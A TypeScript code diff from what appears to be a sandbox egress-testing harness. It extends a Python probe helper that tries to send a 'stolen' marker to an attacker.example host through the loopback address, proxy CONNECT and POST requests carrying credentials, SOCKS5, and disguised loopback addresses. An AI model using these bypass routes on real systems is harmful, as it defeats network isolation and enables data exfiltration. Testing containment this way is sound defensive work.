@@ -3,6 +3,7 @@ import type { Probe } from '../../probe.ts';
 import type { Scene } from '../../scene.ts';
 import { mounting } from '../../scripts.ts';
 import { attack } from '../attack.ts';
+import { BY_PROXY } from '../by-proxy.ts';
 import { lacking } from '../installed.ts';
 import { arrived, stolen } from './exits.ts';
 import { noteOf, portOf, service } from './service.ts';
@@ -17,13 +18,14 @@ const elsewhere = (scene: Scene) => `${stolen(scene)}.attacker.example`;
 
 const toAllowed = (port: number) => (scene: Scene) => [`${ALLOWED}:${port}=127.0.0.1:${portOf(scene)}`];
 
-/** Python: `tell(host, port, words)` of any host, by the loopback, where nothing is in the way, and else by its name. */
-const TELL = `
-import os, socket
+/** Python: `tell(places, words)` by the loopback, where nothing is in the way, else by a name, else through a proxy. */
+const TELL = `${BY_PROXY}
 def tell(places, *words):
-    for place in places:
+    named = [place for place in places if not place[0][0].isdigit()]
+    ways = [(socket.create_connection, (place, 5)) for place in places] + [(by_proxy, place) for place in named]
+    for dial, where in ways:
         try:
-            with socket.create_connection(place, 5) as s:
+            with dial(*where) as s:
                 for said in words:
                     s.sendall(said)
                     print(s.recv(1000))
@@ -100,12 +102,12 @@ const ADDRESS: Probe = {
     python: `${TELL}
 said, port = b'${stolen(scene)}', ${portOf(scene)}
 tell([('127.0.0.1', port), ('${ALLOWED}', port)], said)
-proxy = os.environ.get('HTTP_PROXY', '').rpartition('@')[2].removeprefix('http://').rstrip('/')
+proxy, login = at_proxy()
 if proxy:
-    at = [(proxy.rpartition(':')[0], int(proxy.rpartition(':')[2]))]
+    at = [proxy]
     for host in ('127.0.0.1', '[::ffff:127.0.0.1]', '0x7f000001', '${ALLOWED}'):
-        tell(at, f'CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n'.encode(), said)
-        tell(at, f'POST http://{host}:{port}/ HTTP/1.1\\r\\nHost: {host}\\r\\nContent-Length: {len(said)}\\r\\n\\r\\n'.encode() + said)
+        tell(at, f'CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n{login}\\r\\n'.encode(), said)
+        tell(at, f'POST http://{host}:{port}/ HTTP/1.1\\r\\nHost: {host}\\r\\n{login}Content-Length: {len(said)}\\r\\n\\r\\n'.encode() + said)
     tell(at, b'\\x05\\x01\\x00', b'\\x05\\x01\\x00\\x01' + socket.inet_aton('127.0.0.1') + port.to_bytes(2, 'big'), said)`,
   }),
 };
